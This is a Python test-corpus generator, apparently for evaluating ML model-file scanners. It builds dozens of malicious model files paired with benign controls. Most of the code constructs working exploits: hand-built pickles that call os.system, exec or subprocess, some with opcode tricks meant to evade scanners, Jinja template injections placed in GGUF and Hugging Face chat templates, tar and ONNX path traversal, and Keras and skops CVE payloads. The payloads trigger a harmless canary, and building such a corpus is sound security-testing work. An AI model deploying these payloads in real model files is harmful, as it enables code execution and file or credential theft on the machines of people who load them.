"""Round 3: techniques published 2023-2026 that the earlier rounds do not hold.

PyTorch FX source executed on unpickling, names planted by BUILD at run time, pathlib methods
that write files, archive traversal on extraction (.nemo), ONNX external data written on save,
named chat templates in GGUF and template files beside a Hugging Face model, a Keras
TorchModuleWrapper that carries a pickle, pickled Keras npz weights, skops model cards that
fall back to joblib, and Hugging Face custom pipelines.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import tarfile
import zipfile
from pathlib import Path

import _pk
from registry import Canary, benign, sample

SECRET = "REDTEAM-SECRET-7f3a"
SSTI_SELF = "{{ self.__init__.__globals__['__builtins__']['__import__']('os').system(CMD) }}"
SSTI_LIPSUM = "{{ lipsum.__globals__['os'].popen(CMD).read() }}"
CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _ssti(kind: str, c: Canary) -> str:
    return kind.replace("CMD", json.dumps(c.shell)) + CHAT


# --- PyTorch FX: GraphModule pickles its generated source and exec()s it on load ----------


def _fx_block(c: Canary) -> str:
    return f"import torch\n{c.py}\n"


FX_FORWARD = "\n\ndef forward(self, x):\n    return x\n"


@sample("fx-reduce-graph-module", "torch-fx-graph-module-exec", name="graph_module.pkl")
def _fx_plain(out: Path, c: Canary) -> None:
    from torch.fx.graph_module import reduce_graph_module

    out.write_bytes(_pk.dumps(reduce_graph_module, {"_code": FX_FORWARD}, _fx_block(c)))


@sample(
    "fx-traced-module-torch-save",
    "torch-fx-graph-module-exec",
    loader="torch",
    name="traced_model.pt",
)
def _fx_traced(out: Path, c: Canary) -> None:
    """A genuinely traced GraphModule whose pickled import block carries one more line."""
    import torch
    from torch.fx import symbolic_trace

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):  # type: ignore[no-untyped-def]
            return torch.relu(self.lin(x))

    gm = symbolic_trace(Net())
    fn, (body, block) = gm.__reduce__()  # type: ignore[misc]
    torch.save(_pk.Reduce(fn, body, block + f"\n{c.py}"), out)


@benign(
    "fx-traced-module-clean", "torch-fx-graph-module-exec", loader="torch", name="traced_model.pt"
)
def _fx_clean(out: Path, c: Canary) -> None:
    """A traced GraphModule saved as is: its generated forward() is exec'd on load."""
    import torch
    from torch.fx import symbolic_trace

    torch.save(symbolic_trace(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())), out)


@sample("fx-forward-from-src", "torch-fx-graph-module-exec", name="model.pkl")
def _fx_src(out: Path, c: Canary) -> None:
    from torch.fx.graph_module import _forward_from_src

    out.write_bytes(_pk.dumps(_forward_from_src, c.py + FX_FORWARD, {}, protocol=2))


# --- BUILD slot state plants attributes on an allowed global; dotted names read them back ---


def _planted(module: str, name: str, c: Canary) -> bytes:
    """modelscan issue 85: BUILD's slot state sets ``<module>.<name>.a = 'os'`` and ``.b =
    'system'``; GLOBAL '<module> <name>.a' reads them back and STACK_GLOBAL takes them from
    the memo, so no 'os'/'system' literal stands next to the import."""
    p = pickle
    out = p.PROTO + b"\x05"
    for attr, value in (("a", "os"), ("b", "system")):
        out += p.GLOBAL + f"{module}\n{name}\n".encode()
        out += p.NONE + p.MARK + p.UNICODE + f"{attr}\n".encode()
        out += p.UNICODE + f"{value}\n".encode() + p.DICT + p.TUPLE2 + p.BUILD + p.POP
    out += p.GLOBAL + f"{module}\n{name}.a\n".encode() + p.PUT + b"0\n"
    out += p.GLOBAL + f"{module}\n{name}.b\n".encode() + p.PUT + b"1\n" + p.POP + p.POP
    out += p.GET + b"0\n" + p.GET + b"1\n" + p.STACK_GLOBAL
    out += p.UNICODE + c.shell.encode() + b"\n" + p.TUPLE1 + p.REDUCE + p.STOP
    return out


@sample("planted-names-numpy", "modelscan-85-build-planted-names", name="model.pkl")
def _planted_np(out: Path, c: Canary) -> None:
    out.write_bytes(_planted("numpy", "prod", c))


def _torch_zip_with(data_pkl: bytes) -> bytes:
    """A torch.save archive whose data.pkl is replaced."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    dst_buf = io.BytesIO()
    with zipfile.ZipFile(dst_buf, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = data_pkl
            elif "/data/" in info.filename:
                continue  # the replaced pickle names no storage
            dst.writestr(info.filename, data)
    return dst_buf.getvalue()


@sample(
    "planted-names-torch-rebuild",
    "modelscan-85-build-planted-names",
    loader="torch",
    name="pytorch_model.bin",
)
def _planted_torch(out: Path, c: Canary) -> None:
    out.write_bytes(_torch_zip_with(_planted("torch._utils", "_rebuild_tensor_v2", c)))


@benign("numpy-function-reference", "modelscan-85-build-planted-names", name="config.pkl")
def _np_ref(out: Path, c: Canary) -> None:
    """A pickled reference to a NumPy function, as configs that name a reduction hold."""
    import numpy as np

    out.write_bytes(pickle.dumps({"reduce": np.prod, "axis": 0}, protocol=5))


# --- pathlib methods reached by dotted names ----------------------------------------------


@sample("pathlib-write-text", "modelaudit-pathlib-methods", name="model.pkl")
def _pl_write(out: Path, c: Canary) -> None:
    from pathlib import PosixPath

    fn = _pk.stack_global("pathlib", "PosixPath.write_text")
    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path), "fired") + pickle.STOP)


@sample("pathlib-touch", "modelaudit-pathlib-methods", name="state.pkl")
def _pl_touch(out: Path, c: Canary) -> None:
    from pathlib import PosixPath

    fn = _pk.stack_global("pathlib", "Path.touch")
    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path)) + pickle.STOP)


@sample("pathlib-write-bytes-global", "modelaudit-pathlib-methods", name="cache.pkl")
def _pl_bytes(out: Path, c: Canary) -> None:
    """The text GLOBAL opcode with a dotted name (resolved from protocol 4 on)."""
    from pathlib import PosixPath

    fn = _pk.glob("pathlib", "Path.write_bytes")
    out.write_bytes(_pk.proto(4) + _pk.call(fn, PosixPath(c.path), b"fired") + pickle.STOP)


@benign("pathlib-path-values", "modelaudit-pathlib-methods", name="run_config.pkl")
def _pl_clean(out: Path, c: Canary) -> None:
    """Training configs often pickle paths as values."""
    from pathlib import PosixPath

    cfg = {"data_dir": PosixPath("/data/train"), "out": PosixPath("runs/1"), "lr": 1e-3}
    out.write_bytes(pickle.dumps(cfg, protocol=4))


# --- .nemo (tar) members that escape the extraction folder --------------------------------


def _nemo_tar(out: Path, extra: list[tarfile.TarInfo], data: dict[str, bytes]) -> None:
    cfg = b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"
    with tarfile.open(out, "w:") as tar:
        for name, blob in (("./model_config.yaml", cfg), ("./model_weights.ckpt", b"")):
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
        for info in extra:
            tar.addfile(info, io.BytesIO(data.get(info.name, b"")))


@sample(
    "nemo-tar-dotdot", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
)
def _nemo_dotdot(out: Path, c: Canary) -> None:
    # the loader extracts into WORK/scratch/<id>/extract: three levels up is WORK
    info = tarfile.TarInfo(f"./../../../fired/{c.path.name}")
    info.size = 5
    _nemo_tar(out, [info], {info.name: b"fired"})


@sample(
    "nemo-tar-symlink", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
)
def _nemo_link(out: Path, c: Canary) -> None:
    link = tarfile.TarInfo("./tokenizer")
    link.type = tarfile.SYMTYPE
    link.linkname = str(c.path.parent)
    f = tarfile.TarInfo(f"./tokenizer/{c.path.name}")
    f.size = 5
    _nemo_tar(out, [link, f], {f.name: b"fired"})


@sample(
    "nemo-tar-absolute",
    "cve-2025-23360-nemo-tar-traversal",
    loader="tar_extract",
    name="model.nemo",
)
def _nemo_abs(out: Path, c: Canary) -> None:
    info = tarfile.TarInfo(str(c.path))
    info.size = 5
    _nemo_tar(out, [info], {info.name: b"fired"})


@benign(
    "nemo-tar-clean", "cve-2025-23360-nemo-tar-traversal", loader="tar_extract", name="model.nemo"
)
def _nemo_clean(out: Path, c: Canary) -> None:
    info = tarfile.TarInfo("./tokenizer/vocab.txt")
    info.size = 6
    _nemo_tar(out, [info], {info.name: b"a\nb\nc\n"})


# --- ONNX external data written outside the folder when the model is saved again ----------


def _onnx_external(out: Path, location: str, shadow: str = "") -> None:
    from onnx import TensorProto, helper

    t = TensorProto()
    t.name = "w"
    t.data_type = TensorProto.UINT8
    t.dims.append(5)
    t.raw_data = b"fired"
    t.data_location = TensorProto.EXTERNAL
    entries = [("location", location), ("offset", "0"), ("length", "5")]
    if shadow:  # the first location is the one a first-match reader sees
        entries.insert(0, ("location", shadow))
    for k, v in entries:
        e = t.external_data.add()
        e.key, e.value = k, v
    node = helper.make_node("Identity", ["w"], ["y"])
    graph = helper.make_graph(
        [node], "g", [], [helper.make_tensor_value_info("y", TensorProto.UINT8, [5])], [t]
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    # serialised directly: onnx.save would write the external data now
    out.write_bytes(model.SerializeToString())


@sample(
    "onnx-save-dotdot",
    "cve-2025-51480-onnx-save-external",
    loader="onnx_resave",
    env="onnx115",
    name="model.onnx",
)
def _onnx_dotdot(out: Path, c: Canary) -> None:
    # the loader saves into WORK/scratch/<id>: two levels up is WORK
    _onnx_external(out, f"../../fired/{c.path.name}")


@sample(
    "onnx-save-absolute",
    "cve-2025-51480-onnx-save-external",
    loader="onnx_resave",
    env="onnx115",
    name="model.onnx",
)
def _onnx_abs(out: Path, c: Canary) -> None:
    _onnx_external(out, str(c.path))


@benign(
    "onnx-save-clean",
    "cve-2025-51480-onnx-save-external",
    loader="onnx_resave",
    env="onnx115",
    name="model.onnx",
)
def _onnx_clean(out: Path, c: Canary) -> None:
    _onnx_external(out, "weights.bin")


# --- ONNX ExternalDataInfo: keys applied with setattr, so the last duplicate wins ---------


@sample(
    "onnx-dup-location-save",
    "cve-2026-34445-onnx-external-data-keys",
    loader="onnx_resave",
    env="onnx115",
    name="model.onnx",
)
def _onnx_dup_save(out: Path, c: Canary) -> None:
    _onnx_external(out, f"../../fired/{c.path.name}", shadow="weights.bin")


@sample(
    "onnx-dup-location-read",
    "cve-2026-34445-onnx-external-data-keys",
    loader="onnx",
    env="onnx115",
    name="model",
)
def _onnx_dup_read(out: Path, c: Canary) -> None:
    from onnx import TensorProto, helper

    secret = c.path.parent.parent / "secret" / "credentials.txt"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(SECRET)
    (out / "weights").mkdir(parents=True)
    (out / "weights.bin").write_bytes(b"\x00" * len(SECRET))
    t = helper.make_tensor("w", TensorProto.UINT8, [len(SECRET)], b"\x00" * len(SECRET), raw=True)
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    t.external_data.add(key="location", value="weights.bin")
    t.external_data.add(key="location", value="weights/../" + os.path.relpath(secret, out))
    node = helper.make_node("Identity", ["w"], ["y"])
    info = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(SECRET)])
    graph = helper.make_graph([node], "g", [], [info], initializer=[t])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    (out / "model.onnx").write_bytes(model.SerializeToString())


@benign(
    "onnx-weights-bin-clean",
    "cve-2026-34445-onnx-external-data-keys",
    loader="onnx",
    env="onnx115",
    name="model",
)
def _onnx_bin_clean(out: Path, c: Canary) -> None:
    import onnx
    from onnx import TensorProto, helper

    t = helper.make_tensor("w", TensorProto.FLOAT, [256], [0.5] * 256)
    node = helper.make_node("Identity", ["w"], ["y"])
    info = helper.make_tensor_value_info("y", TensorProto.FLOAT, [256])
    graph = helper.make_graph([node], "g", [], [info], initializer=[t])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    out.mkdir()
    onnx.save_model(
        model,
        str(out / "model.onnx"),
        save_as_external_data=True,
        location="weights.bin",
        size_threshold=0,
    )


# --- GGUF named chat templates (tokenizer.chat_template.<name>) ---------------------------


def _gguf_named(out: Path, templates: dict[str, str]) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(out), "llama")
    w.add_chat_template([{"name": k, "template": v} for k, v in templates.items()])
    w.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


@sample(
    "gguf-named-tool-use", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf"
)
def _gguf_tool(out: Path, c: Canary) -> None:
    _gguf_named(out, {"default": CHATML, "tool_use": _ssti(SSTI_SELF, c)})


@sample("gguf-named-rag", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf")
def _gguf_rag(out: Path, c: Canary) -> None:
    _gguf_named(out, {"default": CHATML, "rag": _ssti(SSTI_LIPSUM, c)})


@benign(
    "gguf-named-clean", "gguf-named-chat-templates", loader="gguf_named_jinja", name="model.gguf"
)
def _gguf_named_clean(out: Path, c: Canary) -> None:
    _gguf_named(out, {"default": CHATML, "tool_use": CHATML})


# --- chat templates kept in their own files beside a Hugging Face model -------------------


def _hf_dir(out: Path) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps({"model_type": "llama"}))
    (out / "tokenizer_config.json").write_text(json.dumps({"eos_token": "</s>"}))


@sample(
    "hf-chat-template-jinja", "hf-chat-template-files", loader="hf_template_files", name="model"
)
def _hf_jinja(out: Path, c: Canary) -> None:
    _hf_dir(out)
    (out / "chat_template.jinja").write_text(_ssti(SSTI_SELF, c))


@sample("hf-chat-template-json", "hf-chat-template-files", loader="hf_template_files", name="model")
def _hf_json(out: Path, c: Canary) -> None:
    _hf_dir(out)
    (out / "chat_template.json").write_text(json.dumps({"chat_template": _ssti(SSTI_LIPSUM, c)}))


@sample(
    "hf-additional-chat-template",
    "hf-chat-template-files",
    loader="hf_template_files",
    name="model",
)
def _hf_additional(out: Path, c: Canary) -> None:
    _hf_dir(out)
    (out / "chat_template.jinja").write_text(CHATML)
    (out / "additional_chat_templates").mkdir()
    (out / "additional_chat_templates" / "tool_use.jinja").write_text(_ssti(SSTI_SELF, c))


@benign(
    "hf-chat-template-jinja-clean",
    "hf-chat-template-files",
    loader="hf_template_files",
    name="model",
)
def _hf_jinja_clean(out: Path, c: Canary) -> None:
    _hf_dir(out)
    (out / "chat_template.jinja").write_text(CHATML)
    (out / "additional_chat_templates").mkdir()
    (out / "additional_chat_templates" / "tool_use.jinja").write_text(CHATML)


# --- Keras: TorchModuleWrapper carries a base64 torch.save archive (CVE-2025-49655) -------


def _keras_zip(out: Path, config: dict[str, object], weights: dict[str, bytes]) -> None:
    meta = {"keras_version": "3.11.2", "date_saved": "2025-08-01@00:00:00"}
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("config.json", json.dumps(config))
        for name, data in weights.items():
            z.writestr(name, data)


def _tmw_config(module_b64: str) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "TorchModuleWrapper",
                    "config": {
                        "name": "torch_module_wrapper",
                        "trainable": True,
                        "dtype": "float32",
                        "module": module_b64,
                        "output_shape": None,
                    },
                    "registered_name": None,
                },
            ],
        },
        "registered_name": None,
    }


def _torch_save_b64(obj: object, legacy: bool = False) -> str:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return base64.b64encode(buf.getvalue()).decode("ascii")


@sample(
    "keras-torch-module-wrapper",
    "cve-2025-49655-keras-torchmodulewrapper",
    loader="keras",
    env="keras311",
    name="model.keras",
)
def _tmw(out: Path, c: Canary) -> None:
    _keras_zip(out, _tmw_config(_torch_save_b64(_pk.Reduce(os.system, c.shell))), {})


@sample(
    "keras-torch-module-wrapper-legacy",
    "cve-2025-49655-keras-torchmodulewrapper",
    loader="keras",
    env="keras311",
    name="model.keras",
)
def _tmw_legacy(out: Path, c: Canary) -> None:
    payload = _torch_save_b64(_pk.Reduce(exec, c.py), legacy=True)
    _keras_zip(out, _tmw_config(payload), {})


@benign(
    "keras-torch-module-wrapper-linear",
    "cve-2025-49655-keras-torchmodulewrapper",
    loader="keras",
    env="keras311",
    name="model.keras",
)
def _tmw_clean(out: Path, c: Canary) -> None:
    import torch

    _keras_zip(out, _tmw_config(_torch_save_b64(torch.nn.Linear(2, 2))), {})


# --- Keras: model.weights.npz read with allow_pickle=True (Keras < 3.?; modelscan PR 262) --


def _dense_config() -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {
                        "name": "dense",
                        "trainable": True,
                        "dtype": "float32",
                        "units": 1,
                        "activation": "linear",
                        "use_bias": True,
                    },
                    "registered_name": None,
                    "build_config": {"input_shape": [None, 1]},
                },
            ],
            "build_input_shape": [None, 1],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 1]},
    }


@sample(
    "keras-npz-weights-pickle",
    "keras-weights-npz-pickle",
    loader="keras",
    env="keras38",
    name="model.keras",
)
def _npz_raw(out: Path, c: Canary) -> None:
    """As published: the weights member is a bare pickle, which np.load unpickles."""
    _keras_zip(out, _dense_config(), {"model.weights.npz": _pk.dumps(os.system, c.shell)})


@sample(
    "keras-npz-object-array",
    "keras-weights-npz-pickle",
    loader="keras",
    env="keras38",
    name="model.keras",
)
def _npz_obj(out: Path, c: Canary) -> None:
    """A real npz whose root entry is an object array (pickled inside the .npy member)."""
    import numpy as np

    buf = io.BytesIO()
    root = np.empty(1, dtype=object)
    root[0] = _pk.Reduce(exec, c.py)
    np.savez(buf, __root__=root, **{"layers/dense/vars": np.zeros((1, 1), dtype="float32")})
    _keras_zip(out, _dense_config(), {"model.weights.npz": buf.getvalue()})


@benign(
    "keras-npz-weights-clean",
    "keras-weights-npz-pickle",
    loader="keras",
    env="keras38",
    name="model.keras",
    gen="keras38",
)
def _npz_clean(out: Path, c: Canary) -> None:
    """Written by Keras itself with weights_format="npz": each layer's variables are a dict,
    which np.savez stores as a pickled object array."""
    import keras
    from keras.src.saving.saving_lib import save_model

    model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
    save_model(model, str(out), weights_format="npz")


# --- skops model cards: a non-zip model file is loaded with joblib (CVE-2025-54886) -------


@sample(
    "skops-card-pickle",
    "cve-2025-54886-skops-card-joblib",
    loader="skops_card",
    env="skops012",
    name="model.skops",
)
def _skops_pickle(out: Path, c: Canary) -> None:
    out.write_bytes(_pk.dumps(os.system, c.shell, protocol=4))


@sample(
    "skops-card-joblib-zlib",
    "cve-2025-54886-skops-card-joblib",
    loader="skops_card",
    env="skops012",
    name="model.skops",
)
def _skops_joblib(out: Path, c: Canary) -> None:
    import joblib

    joblib.dump(_pk.Reduce(exec, c.py), out, compress=("zlib", 3))


@benign(
    "skops-card-zip-clean",
    "cve-2025-54886-skops-card-joblib",
    loader="skops_card",
    env="skops012",
    name="model.skops",
    gen="skops012",
)
def _skops_clean(out: Path, c: Canary) -> None:
    import numpy as np
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    m = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    sio.dump(m, out)


# --- Hugging Face custom pipelines: config.json custom_pipelines -> a .py in the folder ---


@sample("hf-custom-pipeline", "hf-custom-pipelines", loader="hf_pipeline", name="model")
def _hf_pipe(out: Path, c: Canary) -> None:
    out.mkdir()
    cfg = {
        "model_type": "bert",
        "vocab_size": 8,
        "hidden_size": 8,
        "num_hidden_layers": 1,
        "num_attention_heads": 1,
        "intermediate_size": 8,
        "custom_pipelines": {
            "pair-classification": {
                "impl": "pair_classification.PairClassificationPipeline",
                "pt": ["AutoModelForSequenceClassification"],
                "tf": [],
                "type": "text",
            }
        },
    }
    (out / "config.json").write_text(json.dumps(cfg))
    (out / "pair_classification.py").write_text(
        f"{c.py}\nfrom transformers import Pipeline\n\n"
        "class PairClassificationPipeline(Pipeline):\n    pass\n"
    )


@benign("hf-custom-pipeline-absent", "hf-custom-pipelines", loader="hf_config", name="model")
def _hf_pipe_clean(out: Path, c: Canary) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps({"model_type": "bert", "vocab_size": 8}))


# --- copyreg extension registry: EXT opcodes name a callable by number --------------------


def _ext(c: Canary, module: str, name: str, code: int) -> bytes:
    """copyreg.add_extension registers (module, name) under a code; an EXT opcode then
    imports it by number, with no GLOBAL naming it."""
    out = _pk.proto(2) + _pk.call(
        _pk.glob("copyreg", "add_extension"), module, name, code, protocol=2
    )
    out += pickle.POP
    if code < 0x100:
        out += pickle.EXT1 + bytes([code])
    else:
        out += pickle.EXT2 + code.to_bytes(2, "little")
    return out + _pk.body((c.shell,), 2) + pickle.REDUCE + pickle.STOP


@sample("ext1-registry-posix-system", "modelaudit-ext-opcode-registry", name="model.pkl")
def _ext1(out: Path, c: Canary) -> None:
    out.write_bytes(_ext(c, "posix", "system", 0xF1))


@sample("ext2-registry-subprocess", "modelaudit-ext-opcode-registry", name="optimizer.pkl")
def _ext2(out: Path, c: Canary) -> None:
    out.write_bytes(_ext(c, "subprocess", "getoutput", 0x1F2E))


@benign("copyreg-reconstructor-p1", "modelaudit-ext-opcode-registry", name="state.pkl")
def _p1_clean(out: Path, c: Canary) -> None:
    """Protocol 1 pickles of plain classes go through copyreg._reconstructor."""
    import argparse

    out.write_bytes(pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=1))


# --- the call is made by a consumer: map/filter/starmap drained by list/tuple/deque --------


@sample("iter-list-map", "modelaudit-callgraph-consumers", name="model.pkl")
def _it_map(out: Path, c: Canary) -> None:
    mapped = _pk.call(_pk.glob("builtins", "map"), _pk.Raw(_pk.glob("posix", "system")), [c.shell])
    out.write_bytes(
        _pk.proto(2)
        + _pk.glob("builtins", "list")
        + pickle.MARK
        + mapped
        + pickle.TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


@sample("iter-deque-starmap", "modelaudit-callgraph-consumers", name="model.pkl")
def _it_starmap(out: Path, c: Canary) -> None:
    starred = _pk.call(
        _pk.glob("itertools", "starmap"), _pk.Raw(_pk.glob("subprocess", "call")), [(c.argv,)]
    )
    out.write_bytes(
        _pk.proto(2)
        + _pk.glob("collections", "deque")
        + pickle.MARK
        + starred
        + _pk.body(0, 2)
        + pickle.TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


@sample("iter-tuple-filter", "modelaudit-callgraph-consumers", name="model.pkl")
def _it_filter(out: Path, c: Canary) -> None:
    filtered = _pk.call(
        _pk.glob("builtins", "filter"), _pk.Raw(_pk.glob("builtins", "exec")), [c.py]
    )
    out.write_bytes(
        _pk.proto(2)
        + _pk.glob("builtins", "tuple")
        + pickle.MARK
        + filtered
        + pickle.TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


# --- deferred calls: run after the load returns (finalizer, exit hook, timer thread) --------


@sample("deferred-weakref-finalize", "modelaudit-callgraph-deferred", name="model.pkl")
def _def_finalize(out: Path, c: Canary) -> None:
    obj = _pk.call(_pk.glob("argparse", "Namespace"))
    fin = _pk.call(
        _pk.glob("weakref", "finalize"), _pk.Raw(obj), _pk.Raw(_pk.glob("posix", "system")), c.shell
    )
    out.write_bytes(_pk.proto(2) + fin + pickle.STOP)


@sample("deferred-atexit-register", "modelaudit-callgraph-deferred", name="model.pkl")
def _def_atexit(out: Path, c: Canary) -> None:
    reg = _pk.call(_pk.glob("atexit", "register"), _pk.Raw(_pk.glob("posix", "system")), c.shell)
    out.write_bytes(_pk.proto(2) + reg + pickle.STOP)


@sample("deferred-timer-thread", "modelaudit-callgraph-deferred", name="model.pkl")
def _def_timer(out: Path, c: Canary) -> None:
    timer = _pk.call(
        _pk.glob("threading", "Timer"),
        0.0,
        _pk.Raw(_pk.glob("builtins", "exec")),
        [c.py],
        protocol=4,
    )
    start = _pk.call(_pk.stack_global("threading", "Thread.start"), _pk.Raw(timer), protocol=4)
    out.write_bytes(_pk.proto(4) + start + pickle.STOP)


# --- skops: OperatorFuncNode calls operator.<name>, whatever module the schema names --------


def _node(loader: str, module: str, cls: str, nid: int, **kw: object) -> dict[str, object]:
    return {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": nid, **kw}


def _skops_zip(out: Path | io.BytesIO, schema: dict[str, object], files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
        for name, data in files.items():
            z.writestr(name, data)


def _skops_operator_call(c: Canary, inner_name: str) -> tuple[dict[str, object], bytes]:
    """CVE-2025-54412 as published: the outer schema lists an sklearn-looking type and
    skops.io.loads; operator.call(skops.io.loads, <inner file>, trusted) loads an inner dump
    whose own OperatorFuncNode calls builtins.exec."""
    inner = _node(
        "OperatorFuncNode",
        "sk",
        "call",
        1,
        attrs=_node(
            "TupleNode",
            "builtins",
            "tuple",
            2,
            content=[
                _node("TypeNode", "builtins", "exec", 3),
                _node("JsonNode", "builtins", "str", 4, content=json.dumps(c.py), is_json=True),
            ],
        ),
    )
    inner.update(protocol=2, _skops_version="0.11.0")
    buf = io.BytesIO()
    _skops_zip(buf, inner, {})
    trusted = [
        _node("JsonNode", "builtins", "str", nid, content=json.dumps(t), is_json=True)
        for nid, t in ((7, "builtins.exec"), (11, "sk.call"))
    ]
    outer = _node(
        "OperatorFuncNode",
        "sklearn.linear_model._stochastic_gradient.SGDRegressor",
        "call",
        10,
        attrs=_node(
            "TupleNode",
            "builtins",
            "tuple",
            8,
            content=[
                _node("TypeNode", "skops.io", "loads", 5),
                _node("BytesNode", "builtins", "bytes", 6, file=inner_name),
                _node("ListNode", "builtins", "list", 9, content=trusted),
            ],
        ),
    )
    outer.update(protocol=2, _skops_version="0.11.0")
    return outer, buf.getvalue()


@sample(
    "skops-operator-call-nested",
    "cve-2025-54412-skops-operatorfunc",
    loader="skops_load",
    env="skops011",
    name="model.skops",
)
def _skops_op(out: Path, c: Canary) -> None:
    schema, inner = _skops_operator_call(c, "my-model-evil.skops")
    _skops_zip(out, schema, {"my-model-evil.skops": inner})


@sample(
    "skops-operator-call-npy-name",
    "cve-2025-54412-skops-operatorfunc",
    loader="skops_load",
    env="skops011",
    name="model.skops",
)
def _skops_op_npy(out: Path, c: Canary) -> None:
    schema, inner = _skops_operator_call(c, "coef_.npy")
    _skops_zip(out, schema, {"coef_.npy": inner})


# --- keras.utils.get_file(extract=True): members checked against the working folder ------


def _tar_gz(out: Path, members: list[tarfile.TarInfo], data: dict[str, bytes]) -> None:
    with tarfile.open(out, "w:gz") as tar:
        readme = tarfile.TarInfo("README.txt")
        readme.size = 6
        tar.addfile(readme, io.BytesIO(b"data.\n"))
        for info in members:
            tar.addfile(info, io.BytesIO(data.get(info.name, b"")))


def _link_then_file(target: str, c: Canary) -> tuple[list[tarfile.TarInfo], dict[str, bytes]]:
    link = tarfile.TarInfo("images")
    link.type = tarfile.SYMTYPE
    link.linkname = target
    f = tarfile.TarInfo(f"images/{c.path.name}")
    f.size = 5
    return [link, f], {f.name: b"fired"}


@sample(
    "keras-get-file-link-absolute",
    "cve-2025-12060-keras-get-file-tar",
    loader="keras_get_file",
    env="keras311",
    name="dataset.tar.gz",
)
def _gf_abs(out: Path, c: Canary) -> None:
    # a link's own name is inside the folder, so its target is never checked
    _tar_gz(out, *_link_then_file(str(c.path.parent), c))


@sample(
    "keras-get-file-link-relative",
    "cve-2025-12060-keras-get-file-tar",
    loader="keras_get_file",
    env="keras311",
    name="dataset.tar.gz",
)
def _gf_rel(out: Path, c: Canary) -> None:
    # extracted into WORK/scratch/<id>/cache/datasets/<name>_extracted: five levels up is WORK
    _tar_gz(out, *_link_then_file("../../../../../fired", c))


@benign(
    "keras-get-file-clean",
    "cve-2025-12060-keras-get-file-tar",
    loader="keras_get_file",
    env="keras311",
    name="dataset.tar.gz",
)
def _gf_clean(out: Path, c: Canary) -> None:
    f = tarfile.TarInfo("images/0001.txt")
    f.size = 4
    _tar_gz(out, [f], {f.name: b"cat\n"})


# --- tokenizer_config.json chat_template as a list of named templates ---------------------


@sample(
    "tokenizer-config-named-tool-use",
    "hf-named-chat-templates-list",
    loader="hf_jinja_named",
    name="tokenizer_config.json",
)
def _tok_named(out: Path, c: Canary) -> None:
    templates = [
        {"name": "default", "template": CHATML},
        {"name": "tool_use", "template": _ssti(SSTI_SELF, c)},
    ]
    out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))


@sample(
    "tokenizer-config-named-rag",
    "hf-named-chat-templates-list",
    loader="hf_jinja_named",
    name="tokenizer_config.json",
)
def _tok_named_rag(out: Path, c: Canary) -> None:
    templates = [
        {"name": "rag", "template": _ssti(SSTI_LIPSUM, c)},
        {"name": "default", "template": CHATML},
    ]
    out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))


@benign(
    "tokenizer-config-named-clean",
